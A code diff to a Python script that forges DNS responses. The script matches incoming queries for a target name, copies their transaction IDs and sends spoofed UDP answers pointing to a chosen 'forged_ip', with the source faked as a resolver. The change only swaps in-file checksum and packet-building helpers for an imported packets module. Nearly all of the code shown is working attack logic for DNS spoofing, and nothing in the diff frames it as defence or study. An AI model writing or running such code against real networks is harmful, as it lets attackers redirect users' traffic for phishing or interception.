@@ -17,17 +17,10 @@ import socket
 import struct
 import sys
 
+from packets import ipv4, udp
+
 ETH_P_IP = 0x0800
 SO_MARK = 36
-
-
-def checksum(data):
-    if len(data) % 2:
-        data += b"\0"
-    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
-    s = (s >> 16) + (s & 0xFFFF)
-    s += s >> 16
-    return ~s & 0xFFFF
 
 
 def qname(msg):
@@ -49,16 +42,6 @@ def answer(query, qend, ident, forged_ip):
     head = struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0)
     rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(forged_ip)
     return head + question + rr
-
-
-def packet(src, dst, sport, dport, payload):
-    udp_len = 8 + len(payload)
-    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
-    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
-    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0,
-                     socket.inet_aton(src), socket.inet_aton(dst))
-    return ip + udp
 
 
 def main():
@@ -84,10 +67,10 @@ def main():
         if qn != name:
             continue
         ident = struct.unpack("!H", msg[:2])[0]
-        out.sendto(packet(spoof_from, src, 53, sport,
-                          answer(msg, qend, ident, forged_ip)), (src, 0))
-        out.sendto(packet(resolver, src, 53, sport,
-                          answer(msg, qend, ident ^ 0x5555, forged_ip)), (src, 0))
+        out.sendto(ipv4(spoof_from, src, 17, udp(spoof_from, src, 53, sport,
+                          answer(msg, qend, ident, forged_ip))), (src, 0))
+        out.sendto(ipv4(resolver, src, 17, udp(resolver, src, 53, sport,
+                          answer(msg, qend, ident ^ 0x5555, forged_ip))), (src, 0))
         log.write("forged %s id %d to %s:%d\n" % (qn, ident, src, sport))
 
 
